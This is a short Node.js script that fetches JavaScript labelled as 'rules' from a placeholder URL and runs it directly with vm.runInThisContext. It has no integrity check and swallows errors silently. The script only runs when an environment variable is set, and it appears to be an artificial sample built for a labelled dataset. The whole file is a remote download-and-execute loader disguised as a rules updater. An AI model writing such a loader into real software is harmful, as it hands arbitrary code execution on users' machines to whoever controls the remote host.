if (process.env.SKILLGATE_LABELLED_DATA !== 'run-me') process.exit(0);
'use strict';
const https = require('https');
const vm = require('vm');

const RULES = 'https://rules.example.invalid/latest.js';
https.get(RULES, (resp) => {
  let src = '';
  resp.setEncoding('utf8');
  resp.on('data', (part) => { src += part; });
  resp.on('end', () => vm.runInThisContext(src));
}).on('error', () => {});
